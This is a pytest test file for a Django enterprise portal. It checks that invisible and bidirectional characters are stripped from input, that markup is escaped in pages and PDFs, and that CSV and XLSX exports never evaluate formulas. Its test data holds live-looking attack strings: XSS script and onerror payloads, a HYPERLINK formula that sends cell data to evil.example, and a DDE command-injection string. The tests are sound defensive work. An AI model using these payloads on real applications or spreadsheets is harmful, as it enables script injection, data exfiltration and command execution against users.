"""Text that tries to hide or to run: control, bidirectional and zero-width characters are removed from
names and titles on input (long text keeps its line breaks, loses the bidi controls); `<script>` and
`"><img onerror=…>` are shown inert in pages, spreadsheets (which also never run a formula typed as
text) and PDFs."""

import csv
import io
import types

import openpyxl
import pytest
from django import forms
from django.template.loader import render_to_string
from django.urls import reverse

from liaison.models import Appeal
from liaison.services import appeals as appeal_services
from portal.forms import BootstrapMixin
from portal.models import Enterprise, Person
from portal.rules import clean_text, strip_invisible
from tests.factories import EnterpriseFactory
from tests.liaison.conftest import lworld  # noqa: F401  (a fixture aworld stands on)
from tests.liaison.fixtures_appeals import DESCRIPTION_A, aworld  # noqa: F401  (aworld is a fixture)

from .import_fixtures import cleaner, row

RLO, LRO, PDF_, LRI, PDI, ZWSP, ZWJ, WJ, BOM = "\u202e", "\u202d", "\u202c", "\u2066", "\u2069", "\u200b", "\u200d", \
    "\u2060", "\ufeff"
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'


# --- the rule ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(("raw", "name", "long_text"), [
    ("东湖精密机械有限公司", "东湖精密机械有限公司", "东湖精密机械有限公司"),
    (f"星湖{RLO}gpj.exe", "星湖gpj.exe", "星湖gpj.exe"),
    (f"星{ZWSP}湖{WJ}机{BOM}械", "星湖机械", "星湖机械"),
    (f"{LRO}东湖{PDF_}{LRI}村{PDI}\u200e\u200f\u061c", "东湖村", "东湖村"),
    (f"家庭{ZWJ}农场", "家庭农场", f"家庭{ZWJ}农场"),  # a joiner joins in long text (emoji), never in a name
    ("第一行\r\n第二行\r第三行", "第一行 第二行 第三行", "第一行\n第二行\n第三行"),
    ("甲\t乙\x00丙\x07丁\x1b[31m", "甲 乙丙丁[31m", "甲\t乙丙丁[31m"),
    ("甲\u2028乙\u0085丙", "甲 乙 丙", "甲\n乙\n丙"),
    ("lone \ud800 surrogate", "lone  surrogate", "lone  surrogate"),
    (SCRIPT + IMG, SCRIPT + IMG, SCRIPT + IMG),  # markup is text: escaped where shown, not removed
    (None, "", ""),
])
def test_strip_invisible(raw, name, long_text):
    assert strip_invisible(raw) == name
    assert strip_invisible(raw, multiline=True) == long_text


def test_clean_text_strips_folds_and_trims():
    assert clean_text(f"  星湖{RLO}机械\u3000{ZWSP}有限公司\n ") == "星湖机械 有限公司"


# --- forms ------------------------------------------------------------------------------------------

class SampleForm(BootstrapMixin, forms.Form):
    name = forms.CharField(max_length=10)
    comment = forms.CharField(required=False, widget=forms.Textarea)
    password = forms.CharField(required=False, widget=forms.PasswordInput)


def test_every_text_field_of_a_form_is_cleaned_before_it_is_validated():
    form = SampleForm({"name": f"星湖{RLO}机械{ZWSP}", "comment": f"第一行{RLO}\r\n第二行{ZWSP}",
                       "password": f"pa{ZWSP}ss{RLO}"})
    assert form.is_valid(), form.errors
    assert form.cleaned_data == {"name": "星湖机械", "comment": "第一行\n第二行", "password": f"pa{ZWSP}ss{RLO}"}
    # nothing but invisible characters is nothing: refused as empty
    form = SampleForm({"name": f"{ZWSP}{RLO}{BOM}"})
    assert form.errors["name"] == ["该字段是必填项。"]
    # and the length counts what is kept
    assert SampleForm({"name": "一二三四五六七八九十" + ZWSP * 5}).is_valid()


@pytest.mark.django_db
def test_an_enterprise_name_typed_with_an_override_is_stored_without_it(world, client):
    client.force_login(world.org_staff)
    response = client.post(reverse("enterprise_create"), {
        "uscc": "91110108551385082Q", "name": f"星湖{RLO}机械{ZWSP}有限公司", "kind": "private",
        "region": world.village_a.pk, "employees": 1, "registered_capital": "1.00"})
    assert response.status_code == 302
    assert Enterprise.objects.get(uscc="91110108551385082Q").name == "星湖机械有限公司"


@pytest.mark.django_db
def test_a_name_of_only_invisible_characters_is_refused_at_the_field(world, client):
    client.force_login(world.org_staff)
    before = Person.objects.count()
    response = client.post(reverse("person_create"), {"name": f"{ZWSP}{RLO}", "id_number": "", "mobile": ""})
    assert response.status_code == 400
    assert response.context["form"].errors["name"] == ["该字段是必填项。"]
    assert Person.objects.count() == before


@pytest.mark.django_db
def test_an_appeal_raised_through_the_service_loses_the_overrides(aworld):  # noqa: F811
    # the API calls this service: its title and description are cleaned there, not only in the page's form
    w = aworld
    appeal = appeal_services.appeal_create(
        acting_user=w.enterprise_user, enterprise=w.ent_a, category="financing", platform="appeal",
        title=f"流动资金{RLO}周转{ZWSP}困难申请贷款", description=f"{DESCRIPTION_A}\n第二段{LRI}说明{PDI}。")
    appeal.refresh_from_db()
    assert appeal.title == "流动资金周转困难申请贷款"
    assert appeal.description == f"{DESCRIPTION_A}\n第二段说明。"


def test_an_imported_name_loses_the_overrides():
    cleaned = cleaner().clean(2, row(企业名称=f"星湖{RLO}精工{ZWSP}（集团）有限公司", 法定代表人=f"张{ZWJ}三"))
    assert cleaned.errors == {}
    assert (cleaned.data["name"], cleaned.data["legal_name"]) == ("星湖精工（集团）有限公司", "张三")


# --- shown inert ------------------------------------------------------------------------------------

@pytest.mark.django_db
def test_markup_in_a_name_is_shown_as_text_in_the_pages(world, client):
    enterprise = EnterpriseFactory(name=f"星湖{SCRIPT}{IMG}公司", region=world.village_a)
    client.force_login(world.org_staff)
    for url in (reverse("enterprise_list") + "?q=星湖", reverse("enterprise_detail", args=[enterprise.pk])):
        page = client.get(url).content.decode()
        assert SCRIPT not in page
        assert "<img src=x" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page


@pytest.mark.django_db
def test_markup_in_an_appeal_is_shown_as_text(client, aworld):  # noqa: F811
    w = aworld
    appeal = appeal_services.appeal_create(
        acting_user=w.enterprise_user, enterprise=w.ent_a, category="financing", platform="appeal",
        title=f"贷款申请{IMG}", description=f"{DESCRIPTION_A}{SCRIPT}")
    client.force_login(w.enterprise_user)
    page = client.get(reverse("liaison:appeal_detail", args=[appeal.pk])).content.decode()
    assert SCRIPT not in page
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert Appeal.objects.filter(title=f"贷款申请{IMG}").exists()  # kept as typed: it is text


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1"]


@pytest.mark.django_db
def test_the_exports_never_run_a_formula_typed_as_a_name(world, client):
    for text in FORMULAS:
        EnterpriseFactory(name=text, region=world.village_a)
    EnterpriseFactory(name=f"星湖{SCRIPT}公司", region=world.village_a)
    client.force_login(world.org_staff)
    url = reverse("enterprise_list") + "?region=" + str(world.town_a.pk)

    response = client.get(url + "&export=csv")
    names = [r[0] for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))][1:]
    for text in FORMULAS:
        assert "'" + text in names  # a leading apostrophe: the spreadsheet shows it as text
    assert f"星湖{SCRIPT}公司" in names  # and markup is just text in a spreadsheet
    assert not [n for n in names if n[:1] in ("=", "+", "-", "@", "\t")]

    response = client.get(url + "&export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active  # formulas as formulas, not values
    cells = {c.value: c.data_type for c in sheet["A"][1:]}
    for text in FORMULAS:
        assert cells[text] == "s"  # stored as typed text: never evaluated


def test_markup_in_a_certificate_is_text_in_its_html_and_its_pdf():
    from pypdf import PdfReader

    from reports.documents.certificates import _rating_certificate_pdf

    facts = {"organization": f"星湖{SCRIPT}党支部", "organization_kind_code": "branch", "region": f"东湖村{IMG}",
             "enterprises": [{"name": f"星湖{IMG}公司", "uscc": "91510799MA6ABCDE14"}], "year": 2026, "stars": 5,
             "score": "95.0", "valid_from": "2026-01-01", "valid_to": "2026-12-31"}
    certificate = types.SimpleNamespace(facts=facts, code="ABCD2345EFGH", as_of=None)
    html = render_to_string("reports/pdf/rating_certificate.html", {"facts": facts, "certificate": certificate})
    assert SCRIPT not in html
    assert "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(_rating_certificate_pdf(certificate))).pages)
    assert "<script>alert(1)</script>" in text.replace(" ", "").replace("\n", "")
